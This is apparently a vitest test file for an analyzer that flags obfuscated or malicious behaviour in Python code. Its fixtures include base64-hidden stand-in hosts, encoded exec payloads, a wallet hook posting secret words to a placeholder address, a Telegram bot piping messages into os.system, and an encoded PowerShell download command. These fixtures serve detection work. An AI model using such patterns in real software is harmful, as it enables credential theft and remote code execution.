import { expect, test } from 'vitest';
import { read } from './reading.js';

const namesIn = async (text: string) => (await read(`import os\n${text}\n`)).facts?.calls('process').map(({ name }) => name) ?? [];

test.each([
  ['a dict', "TOOLS = {'run': os.system}\nTOOLS['run'](x)"],
  ['a dict that is asked', "TOOLS = {'run': os.system}\nTOOLS.get('run')(x)"],
  ['the dict of a module', "os.__dict__.get('system')(x)"],
  ['the body of a class', 'class Tools:\n    run = os.system\nTools.run(x)'],
  ['setattr', "class Tools: pass\nsetattr(Tools, 'run', os.system)\nTools.run(x)"],
  ['a default argument', 'def go(x, run=os.system):\n    run(x)'],
  ['an attribute that is set further down', 'class Tools:\n    def go(self, x):\n        self.run(x)\n    def __init__(self):\n        self.run = os.system'],
])('a function is known after it was kept in %s', async (_, text) => {
  expect(await namesIn(text)).toEqual(['os.system']);
});

const flows = async (text: string) => (await read(text)).facts?.flows({ from: ['decoder', 'hidden'], to: ['exec', 'address', 'name'] }).map(({ from, to }) => `${from} ${to}`) ?? [];

test.each([
  ['a table that decoded letters choose from', "import base64\nexec(''.join([pair[0] for letter in base64.b64decode(X) for pair in TABLE if letter == pair[1]]))", 'decoder exec'],
  ['letters that are shifted', "exec(''.join(chr(code - 3) for code in [100, 101, 102, 103, 104, 105, 106, 107, 108, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120]))", 'decoder exec'],
  ['a number', "exec(int.to_bytes(0x6563686f, 4, 'big'))", 'decoder exec'],
  ['an address', "import base64, requests\nrequests.get(base64.b64decode('aHR0cHM6Ly94LmludmFsaWQ=').decode())", 'hidden address'],
  ['the host of a socket', "import base64, socket\nsocket.socket().connect((base64.b64decode('eC5pbnZhbGlk').decode(), 1))", 'hidden address'],
  ['the name of a module', "import base64\nexec('')\n__import__(base64.b64decode('dW5kZWZpbmVk').decode())", 'decoder name'],
])('%s counts as decoded', async (_, text, flow) => {
  expect(await flows(text)).toContain(flow);
});

test('what a replaced function of another package is given is its caller\'s secret', async () => {
  const { facts } = await read('import requests, undefined_wallet\ndef mine(self, words):\n    requests.post(WHERE, data=words)\nundefined_wallet.Account.load = mine\n');
  expect(facts?.flows({ from: 'parameter', to: 'network' })).toMatchObject([{ source: { name: 'words of undefined_wallet.Account.load' } }]);
});

test('what a bot is told is from the network', async () => {
  const { facts } = await read('import os, telebot\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(commands=["run"])\ndef answer(message):\n    os.system(message.text)\n');
  expect(facts?.flows({ from: 'network', to: 'process' })).toMatchObject([{ sink: { name: 'os.system' }, when: 'latent' }]);
});

test('PowerShell is read where it takes its commands encoded', async () => {
  const encoded = Buffer.from('Invoke-WebRequest https://pastebin.com/raw/undefined', 'utf16le').toString('base64');
  const [call] = (await read(`import os\nos.system("powershell -EncodedCommand ${encoded}")\n`)).facts?.calls('process') ?? [];
  expect([...(call?.traits ?? [])]).toEqual(expect.arrayContaining(['hidden-shell', 'contacts-network', 'drop-host']));
});
